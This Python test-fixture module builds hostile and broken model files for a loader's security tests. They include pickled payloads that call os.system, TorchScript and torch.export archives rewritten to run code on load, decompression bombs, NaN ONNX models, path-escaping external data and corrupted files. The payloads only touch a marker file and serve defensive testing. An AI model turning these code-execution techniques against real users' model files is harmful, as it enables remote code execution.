"""Builders of hostile and broken files, made at test time (nothing hostile is committed).

Each reproduces an attack or an accident from the trust audit: archives whose pickles call
os.system, decompression bombs, models with NaN outputs, files truncated or garbled.
"""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from pathlib import Path

import numpy as np


class Payload:
    """Unpickling this runs `touch MARKER`: what an attacker puts in a model file."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def evil_torch_save(marker: Path) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(Payload(marker), buf)
    return buf.getvalue()


def replace_members(src: Path, dst: Path, replace) -> Path:
    """Copy a zip archive, replacing members for which `replace(name)` returns bytes."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            data = replace(info.filename)
            zout.writestr(info, zin.read(info.filename) if data is None else data)
    return dst


def evil_pt2(good_pt2: Path, dst: Path, marker: Path) -> Path:
    """A real torch.export archive whose sample inputs unpickle to os.system (torch.export.load runs it)."""
    payload = evil_torch_save(marker)
    return replace_members(good_pt2, dst, lambda n: payload if "/data/sample_inputs/" in n else None)


def evil_ts(good_ts: Path, dst: Path, marker: Path) -> Path:
    """A real TorchScript archive whose constants pickle names os.system."""
    import pickle

    payload = pickle.dumps(Payload(marker), protocol=2)
    return replace_members(good_ts, dst, lambda n: payload if n.endswith("/constants.pkl") else None)


def evil_checkpoint(dst: Path, marker: Path) -> Path:
    dst.write_bytes(evil_torch_save(marker))
    return dst


def gzip_bomb(dst: Path, declared=(10000, 28, 28), inflated: int = 2 << 30) -> Path:
    """A valid IDX header for `declared` uint8 images, then zeros that inflate to `inflated` bytes (~2 MB file)."""
    header = bytes([0, 0, 8, len(declared)]) + np.asarray(declared, ">u4").tobytes()
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: gzip container
    parts = [comp.compress(header)]
    block = bytes(16 << 20)
    for _ in range(inflated // len(block)):
        parts.append(comp.compress(block))
    parts.append(comp.flush())
    dst.write_bytes(b"".join(parts))
    return dst


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(dst: Path, width: int, height: int, rows: int | None = None) -> Path:
    """A grayscale PNG of width x height whose rows are all black, compressed to a few hundred KB.

    `rows` limits how many rows the data holds (the header still claims `height`): a header-only
    bomb that no decoder should ever start on.
    """
    rows = height if rows is None else rows
    comp = zlib.compressobj(9)
    line = bytes(1 + width)  # filter byte 0 + black pixels
    parts = []
    for _ in range(rows):
        parts.append(comp.compress(line))
    parts.append(comp.flush())
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    dst.write_bytes(b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", b"".join(parts))
                    + _png_chunk(b"IEND", b""))
    return dst


def nan_onnx(dst: Path, uint8: bool = False) -> Path:
    """An ONNX model with the float contract whose logits are NaN for every input."""
    import onnx
    from onnx import TensorProto, helper

    w = np.full((784, 10), np.nan, np.float32)
    graph = helper.make_graph(
        [helper.make_node("Flatten", ["input"], ["flat"], axis=1), helper.make_node("MatMul", ["flat", "w"], ["logits"])],
        "nan", [helper.make_tensor_value_info("input", TensorProto.FLOAT, ["N", 1, 28, 28])],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["N", 10])],
        [onnx.numpy_helper.from_array(w, "w")])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)])
    model.ir_version = 9
    onnx.save(model, str(dst))
    return dst


def external_data_onnx(dst: Path, location: str) -> Path:
    """An ONNX model whose weights live in external data at `location` (e.g. outside its folder)."""
    import onnx
    from onnx import TensorProto, helper

    w = onnx.numpy_helper.from_array(np.zeros((784, 10), np.float32), "w")
    w.data_location = TensorProto.EXTERNAL
    del w.external_data[:]
    for k, v in (("location", location), ("offset", "0"), ("length", str(784 * 10 * 4))):
        e = w.external_data.add()
        e.key, e.value = k, v
    w.ClearField("raw_data")
    graph = helper.make_graph(
        [helper.make_node("Flatten", ["input"], ["flat"], axis=1), helper.make_node("MatMul", ["flat", "w"], ["logits"])],
        "ext", [helper.make_tensor_value_info("input", TensorProto.FLOAT, ["N", 1, 28, 28])],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["N", 10])], [w])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)])
    model.ir_version = 9
    dst.write_bytes(model.SerializeToString())
    return dst


def truncated(src: Path, dst: Path, fraction: float = 0.5) -> Path:
    data = Path(src).read_bytes()
    dst.write_bytes(data[: max(1, int(len(data) * fraction))])
    return dst


def garbage(dst: Path, n: int = 4096, seed: int = 0, head: bytes = b"") -> Path:
    dst.write_bytes(head + np.random.default_rng(seed).integers(0, 256, n, dtype=np.uint8).tobytes())
    return dst


def evil_pt2_program(good_pt2: Path, dst: Path, marker: Path, how: str) -> Path:
    """A torch.export archive whose program JSON makes torch run code: `guards` (exec'd by .module()),
    `expr` (a shape expression sympy evaluates at load) or `target` (a node calling os.system)."""
    import json

    command = f"__import__('os').system('touch {marker}')"

    def rewrite(name):
        if "/models/" not in name or not name.endswith(".json"):
            return None
        with zipfile.ZipFile(good_pt2) as z:
            doc = json.loads(z.read(name))
        if how == "guards":
            doc["guards_code"] = [command]
        elif how == "expr":
            text = json.dumps(doc)
            text = text.replace("Symbol('s", "(" + command.replace("'", "\\u0027") + ") or Symbol('s", 1)
            doc = json.loads(text)
        elif how == "target":
            text = json.dumps(doc).replace("torch.ops.aten.relu.default", "torch.serialization.os.system")
            doc = json.loads(text)
        return json.dumps(doc).encode()

    return replace_members(good_pt2, dst, rewrite)
